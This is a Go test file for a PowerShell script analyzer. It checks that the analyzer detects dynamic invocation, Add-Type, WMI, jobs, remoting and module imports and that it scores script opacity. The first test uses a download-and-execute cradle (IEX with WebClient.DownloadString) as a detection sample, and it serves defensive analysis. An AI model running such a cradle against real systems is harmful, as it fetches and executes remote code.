package engine

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestAnalyzeScriptDetectsDynamicInvoke(t *testing.T) {
	f := AnalyzeScript(`IEX (New-Object Net.WebClient).DownloadString("http://x")`)
	require.True(t, f.HasDynamicInvoke)
	require.Greater(t, f.OpacityScore, 0)
	require.NotEmpty(t, f.Warnings)
}

func TestAnalyzeScriptDetectsAddType(t *testing.T) {
	f := AnalyzeScript(`Add-Type -TypeDefinition "public class Foo {}"`)
	require.True(t, f.HasAddType)
}

func TestAnalyzeScriptDetectsWMI(t *testing.T) {
	f := AnalyzeScript(`Get-WmiObject -Class Win32_Process`)
	require.True(t, f.HasWMI)
}

func TestAnalyzeScriptDetectsBackgroundJobs(t *testing.T) {
	f := AnalyzeScript(`Start-Job -ScriptBlock { Get-Process }`)
	require.True(t, f.HasBackgroundJobs)
}

func TestAnalyzeScriptDetectsRemoting(t *testing.T) {
	f := AnalyzeScript(`Invoke-Command -ComputerName "Server01" -ScriptBlock { Get-Process }`)
	require.True(t, f.HasRemoting)
}

func TestAnalyzeScriptDetectsModulePatterns(t *testing.T) {
	f := AnalyzeScript(`Import-Module ActiveDirectory`)
	require.True(t, f.HasModulePatterns)
}

func TestAnalyzeScriptDetectsClassesAndEnums(t *testing.T) {
	f := AnalyzeScript(`
class Widget {
    [string]$Name
}
enum Color { Red; Green; Blue }`)
	require.True(t, f.HasClasses)
	require.Equal(t, 1, f.ClassCount)
	require.True(t, f.HasEnums)
	require.Contains(t, f.Suggestions, "Script defines 1 class(es) — class bodies are not evaluated")
}

func TestAnalyzeScriptDetectsHereStringsAndBracedVars(t *testing.T) {
	f := AnalyzeScript("${my-var} = 1\n$text = @\"\nhello\n\"@")
	require.True(t, f.HasBracedVars)
	require.True(t, f.HasHereStrings)
}

func TestAnalyzeScriptOpacityAccumulates(t *testing.T) {
	f := AnalyzeScript(`
IEX $x
Add-Type -TypeDefinition "class Foo {}"
Get-WmiObject -Class Win32_Process
Start-Job { 1 }
Import-Module Foo
[System.Net.WebClient]::new()`)
	require.Equal(t, 25+20+10+15+15+10, f.OpacityScore)
}

func TestAnalyzeScriptOpacityClampsAt100(t *testing.T) {
	f := AnalyzeScript(`
IEX $x
Add-Type -TypeDefinition "class Foo {}"
Get-WmiObject -Class Win32_Process
Start-Job { 1 }
Invoke-Command -ComputerName "x" { 1 }
Import-Module Foo
[System.Net.WebClient]::new()`)
	require.Equal(t, 100, f.OpacityScore)
}

func TestAnalyzeScriptCleanScriptHasZeroOpacity(t *testing.T) {
	f := AnalyzeScript(`
$x = 1 + 2
Write-Output $x`)
	require.Equal(t, 0, f.OpacityScore)
	require.Empty(t, f.Warnings)
}

func TestAnalyzeScriptCountsFunctionsAndStrings(t *testing.T) {
	f := AnalyzeScript(`
function Foo($a) { return $a }
function Bar {
    "hi"
}
$s = 'world'`)
	require.Equal(t, 2, f.FunctionCount)
	require.Equal(t, 2, f.StringCount)
}
